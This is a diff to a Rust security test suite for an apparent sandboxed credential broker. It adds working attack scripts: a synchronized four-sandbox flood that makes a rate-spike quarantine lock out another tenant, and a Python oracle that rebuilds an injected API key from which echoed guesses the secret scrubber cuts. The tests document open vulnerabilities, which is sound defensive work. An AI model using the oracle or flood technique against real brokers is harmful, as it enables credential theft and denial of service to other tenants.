@@ -329,10 +329,12 @@ def code(f):
     )
 }
 
-/// A flooder: for 6 s, GETs through its own handle from two connections as fast as it
-/// can; prints the answers counted.
+/// A flooder: from the wall-clock second in `argv[1]` (all flooders start together),
+/// for 6 s, GETs through its own handle from two connections as fast as it can; prints
+/// the answers counted.
 const BROKER_FLOOD: &str = r#"
 h = hb.handle("svc", "bot")["handle"]
+time.sleep(max(0, float(sys.argv[1]) - time.time()))
 got = []
 def worker():
     c = Client(SOCK)
@@ -351,16 +353,16 @@ h = hb.handle("svc", "bot")["handle"]
 print(json.dumps({"post": code(lambda: hb.request("POST", "https://api.test/plain?step=victim", handle=h, body="x"))}), flush=True)
 "#;
 
-/// 1(c) The attack: three sandboxes flood the same account at once, each alone far past
+/// 1(c) The attack: four sandboxes flood the same account at once, each alone past
 /// `spike_hard_cap`. The spike cannot be pinned on at most two callers, so the detector
 /// holds the whole account, every caller together: a sandbox of another policy (another
 /// tenant) that only ever made one write is refused (`policy_denied`, quarantined) for
 /// `quarantine_secs`. The secure outcome: the flooders are held, the bystander's write
 /// goes through.
 #[test]
-#[ignore = "open: a flood spread over 3 sandboxes makes the rate_spike quarantine hold the \
+#[ignore = "open: a flood spread over 4 sandboxes makes the rate_spike quarantine hold the \
             whole account, so another tenant's writes are refused for quarantine_secs"]
-fn a_flood_spread_over_three_sandboxes_does_not_hold_an_innocent_tenant() {
+fn a_flood_spread_over_four_sandboxes_does_not_hold_an_innocent_tenant() {
     use hb_tests::provider::{Provider, agent_env, bearers};
     hb_tests::require_root();
     let p = Provider::start("spread", BROKER_DNS_PORT, None);
@@ -371,10 +373,12 @@ name = "svc"
 auth = "bearer"
 hosts = ["api.test"]
 methods = ["GET", "POST"]
+verify_url = "https://api.test/plain?step=verify"
 
 [integration.rotation]
+exec = ["{python}", "{rotator}", "{keys}"]
 sensor_bucket_secs = 1
-spike_hard_cap = 20
+spike_hard_cap = 8
 spike_buckets = 2
 spike_learning_secs = 3600
 
@@ -387,19 +391,28 @@ name = "ops"
 integrations = ["svc"]
 "#,
         head = p.config_head(""),
+        python = python(),
+        rotator = p.exec_rotator().display(),
+        keys = p.key_store("keys.json", &[KEY]).display(),
     );
     let mut env = agent_env("spread", &config);
     env.vault_put("svc", "bot", KEY);
     env.start_agent();
 
     let flood = broker_script(&env, BROKER_FLOOD);
-    let flooders: Vec<Child> = (0..3)
+    let start = (std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .expect("clock")
+        .as_secs()
+        + 3)
+    .to_string();
+    let flooders: Vec<Child> = (0..4)
         .map(|_| {
             Command::new(agent_bin())
                 .arg("--config")
                 .arg(&env.config_path)
                 .args(["sandbox", "run", "--policy", "web", "--user", "65534", "--"])
-                .args([python(), "-c", &flood])
+                .args([python(), "-c", &flood, &start])
                 .stdin(Stdio::null())
                 .stdout(Stdio::piped())
                 .stderr(Stdio::inherit())
@@ -440,9 +453,136 @@ integrations = ["svc"]
     );
     assert!(
         victim.contains("\"post\": 200"),
-        "a tenant that made one write was held by a quarantine three other sandboxes \
+        "a tenant that made one write was held by a quarantine four other sandboxes \
          raised: {victim} (spike: {actions:?})"
     );
     assert_eq!(bearers(&p.api, "victim").len(), 1, "the write reached the API");
     let _ = std::fs::remove_dir_all(&p.dir);
+}
+
+const ORACLE_KEY: &str = "key-9f3a61c0d2b84e57a1c6f0e3d9b27c48";
+
+/// The oracle attack: knowing only the credential's shape (`key-` and 32 lower-case hex
+/// digits, as a token family's prefix and alphabet are public), the sandbox sends
+/// candidate 8-character runs in the URL of a GET through its handle to an integration
+/// host whose answer echoes the path (`ok GET /path?…`, as a 404 page or any echoing
+/// API does). The scrubber cuts every run of 8 characters of the injected key from the
+/// answer, so which candidates come back cut says which are pieces of the key: the
+/// first window from 65,536 candidates of `key-XXXX`, then one character at a time
+/// from 16. Runs are not a reflection signal, so nothing stops it. Prints the calls it
+/// made and the SHA-256 of what it rebuilt (never the value).
+const PY_ORACLE: &str = r#"
+import hashlib
+h = hb.handle("svc", "bot")["handle"]
+HEX = "0123456789abcdef"
+calls = 0
+def cut(cands):
+    global calls
+    calls += 1
+    r = hb.request("GET", "https://api.test/plain?g=" + "~".join(cands) + "&step=oracle", handle=h)
+    toks = r["body"].split("g=", 1)[1].split("&step=")[0].split("~")
+    return [c for c, t in zip(cands, toks) if t != c]
+first = ["key-" + "%04x" % i for i in range(65536)]
+known = None
+for i in range(0, len(first), 800):
+    hit = cut(first[i:i + 800])
+    if hit:
+        known = hit[0]
+        break
+while known and len(known) < 36:
+    hit = cut([known[-7:] + c for c in HEX])
+    if len(hit) != 1:
+        break
+    known += hit[0][-1]
+print(json.dumps({"calls": calls, "len": len(known or ""),
+                  "sha256": hashlib.sha256((known or "").encode()).hexdigest()}), flush=True)
+"#;
+
+/// 2. Reflection as an oracle: the secure outcome is that the sandbox cannot rebuild
+/// the credential from which of its guesses the scrubber cuts.
+#[test]
+#[ignore = "open: the run scrubber (scrub/fragments.rs) is an oracle: guesses echoed back \
+            cut or uncut rebuild the injected key in ~40 calls, with no signal"]
+fn which_guesses_the_scrubber_cuts_does_not_rebuild_the_key() {
+    use hb_tests::provider::{Provider, agent_env, bearers};
+    hb_tests::require_root();
+    let p = Provider::start("oracle", BROKER_DNS_PORT, None);
+    let config = format!(
+        r#"{head}
+[[integration]]
+name = "svc"
+auth = "bearer"
+hosts = ["api.test"]
+methods = ["GET"]
+
+[[policy]]
+name = "web"
+integrations = ["svc"]
+"#,
+        head = p.config_head(""),
+    );
+    let mut env = agent_env("oracle", &config);
+    env.vault_put("svc", "bot", ORACLE_KEY);
+    env.start_agent();
+    let out = env.hb(&[
+        "sandbox",
+        "run",
+        "--policy",
+        "web",
+        "--user",
+        "65534",
+        "--",
+        python(),
+        "-c",
+        &broker_script(&env, PY_ORACLE),
+    ]);
+    let said = stdout(&out);
+    let got: Value = serde_json::from_str(said.trim()).unwrap_or_else(|_| {
+        panic!(
+            "attacker output: {said} {}",
+            String::from_utf8_lossy(&out.stderr)
+        )
+    });
+    let sent = bearers(&p.api, "oracle");
+    assert!(
+        !sent.is_empty() && sent.iter().all(|b| b == ORACLE_KEY),
+        "the calls carried the key (else this proves nothing)"
+    );
+    let rebuilt = got["sha256"] == sha256_hex(ORACLE_KEY);
+    let records = std::fs::read_to_string(env.state_dir.join("audit.log")).unwrap_or_default();
+    let signalled = records.contains("\"reflection\"");
+    println!(
+        "attacker calls: {} | rebuilt length: {} | rebuilt the key: {rebuilt} | reflection signalled: {signalled}",
+        got["calls"], got["len"]
+    );
+    assert!(
+        !rebuilt,
+        "the sandbox rebuilt the injected key from which guesses the scrubber cut, in {} \
+         calls (reflection signalled: {signalled})",
+        got["calls"]
+    );
+    let _ = std::fs::remove_dir_all(&p.dir);
+}
+
+/// SHA-256 of `value` in hex (Python's hashlib; the value goes on stdin, never in argv).
+fn sha256_hex(value: &str) -> String {
+    use std::io::Write as _;
+    let mut child = Command::new(python())
+        .args([
+            "-c",
+            "import hashlib, sys; print(hashlib.sha256(sys.stdin.buffer.read()).hexdigest())",
+        ])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .spawn()
+        .expect("python3");
+    child
+        .stdin
+        .take()
+        .expect("stdin")
+        .write_all(value.as_bytes())
+        .expect("write");
+    stdout(&child.wait_with_output().expect("python3"))
+        .trim()
+        .to_owned()
 }
